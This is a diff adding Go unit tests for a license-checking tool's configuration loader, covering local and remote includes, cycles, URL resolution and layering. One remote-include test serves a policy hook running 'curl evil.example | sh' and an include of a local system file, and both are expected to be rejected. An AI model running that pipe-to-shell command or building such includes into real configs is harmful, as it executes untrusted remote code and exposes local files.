@@ -0,0 +1,145 @@
+// Copyright 2022 Google Inc. All Rights Reserved.
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package config
+
+import (
+	"io/ioutil"
+	"net/http"
+	"net/http/httptest"
+	"path/filepath"
+	"testing"
+
+	"github.com/Bobgy/go-licenses/v2/policy"
+	"github.com/google/go-cmp/cmp"
+)
+
+func TestLoadInclude(t *testing.T) {
+	want := &Config{
+		Overrides: []Override{{Name: "github.com/foo/bar", SpdxID: "BSD-3-Clause"}},
+		Policy: &policy.Policy{
+			Allowed:    policy.Rules{Categories: []string{"notice", "permissive"}},
+			Forbidden:  policy.Rules{Licenses: []string{"AGPL-3.0"}},
+			Exceptions: []policy.Exception{{Module: "github.com/foo/agpl", Justification: "Only used by tests."}},
+		},
+	}
+	got, err := Load("testdata/include/repo.yaml")
+	if err != nil {
+		t.Fatalf("Load() = (_, %v), want (_, nil)", err)
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("Load() diff (-want +got):\n%s", diff)
+	}
+}
+
+func TestLoadRemoteInclude(t *testing.T) {
+	org, err := ioutil.ReadFile("testdata/include/org.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/org.yaml":
+			w.Write(org)
+		case "/hook.yaml":
+			w.Write([]byte("policy:\n  hook:\n    command: [sh, -c, 'curl evil.example | sh']\n"))
+		case "/local.yaml":
+			w.Write([]byte("include: ['file:///etc/licenses.yaml']\n"))
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer server.Close()
+	defer func(c *http.Client) { includeClient = c }(includeClient)
+	includeClient = server.Client()
+	path := filepath.Join(t.TempDir(), "licenses.yaml")
+	if err := ioutil.WriteFile(path, []byte("include: ["+server.URL+"/org.yaml]\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	got, err := Load(path)
+	if err != nil {
+		t.Fatalf("Load() = (_, %v), want (_, nil)", err)
+	}
+	if got.Override("github.com/foo/bar") == nil || got.Policy == nil {
+		t.Errorf("Load() = %+v, want config of %s/org.yaml", got, server.URL)
+	}
+	if err := ioutil.WriteFile(path, []byte("include: ["+server.URL+"/missing.yaml]\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Load(path); err == nil {
+		t.Error("Load() with missing remote include = nil error, want error")
+	}
+	for _, include := range []string{"/hook.yaml", "/local.yaml"} {
+		if err := ioutil.WriteFile(path, []byte("include: ["+server.URL+include+"]\n"), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Load(path); err == nil {
+			t.Errorf("Load() with remote include %s = nil error, want error", include)
+		}
+	}
+}
+
+func TestLoadIncludeCycle(t *testing.T) {
+	if _, err := Load("testdata/include/cycle.yaml"); err == nil {
+		t.Error("Load() with include cycle = nil error, want error")
+	}
+}
+
+func TestResolveInclude(t *testing.T) {
+	for _, test := range []struct {
+		base    string
+		include string
+		want    string
+	}{
+		{base: "config/licenses.yaml", include: "org.yaml", want: filepath.Join("config", "org.yaml")},
+		{base: "config/licenses.yaml", include: "https://example.com/org.yaml", want: "https://example.com/org.yaml"},
+		{base: "https://example.com/policies/org.yaml", include: "base.yaml", want: "https://example.com/policies/base.yaml"},
+		{base: "https://example.com/policies/org.yaml", include: "../base.yaml", want: "https://example.com/base.yaml"},
+	} {
+		got, err := resolveInclude(test.base, test.include)
+		if err != nil || got != test.want {
+			t.Errorf("resolveInclude(%q, %q) = (%q, %v), want (%q, nil)", test.base, test.include, got, err, test.want)
+		}
+	}
+	for _, test := range []struct {
+		base    string
+		include string
+	}{
+		{base: "config/licenses.yaml", include: "http://example.com/org.yaml"},
+		{base: "https://example.com/policies/org.yaml", include: "http://example.com/base.yaml"},
+		{base: "https://example.com/policies/org.yaml", include: "file:///etc/licenses.yaml"},
+	} {
+		if got, err := resolveInclude(test.base, test.include); err == nil {
+			t.Errorf("resolveInclude(%q, %q) = (%q, nil), want error", test.base, test.include, got)
+		}
+	}
+}
+
+func TestLoadLayers(t *testing.T) {
+	want := &Config{
+		Binaries: []Binary{{Path: "dist/server", Output: "dist/server.licenses.csv"}},
+		Overrides: []Override{
+			{Name: "github.com/foo/bar", SpdxID: "MIT"},
+			{Name: "github.com/foo/baz", SpdxID: "Apache-2.0"},
+		},
+		PreferredLicenses: []string{"Apache-2.0", "MIT"},
+	}
+	got, err := LoadLayers("testdata/layers/base.yaml", "testdata/layers/ci.yaml")
+	if err != nil {
+		t.Fatalf("LoadLayers() = (_, %v), want (_, nil)", err)
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("LoadLayers() diff (-want +got):\n%s", diff)
+	}
+}